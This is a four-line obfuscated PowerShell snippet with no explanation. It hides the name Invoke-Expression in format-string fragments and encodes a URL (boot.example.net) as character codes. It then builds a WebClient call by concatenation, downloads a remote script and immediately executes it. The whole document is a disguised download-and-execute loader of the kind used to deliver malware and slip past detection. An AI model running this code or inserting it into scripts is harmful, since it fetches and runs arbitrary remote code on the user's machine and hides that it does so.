$a = ('{2}{0}{1}' -f 'ke-Ex','pression','Invo')
$b = [char[]](104,116,116,112,115,58,47,47,98,111,111,116,46,101,120,97,109,112,108,101,46,110,101,116,47,98) -join ''
$c = (New-Object ('Net' + '.' + 'WebClient')).('Down' + 'loadString').Invoke($b)
& $a $c
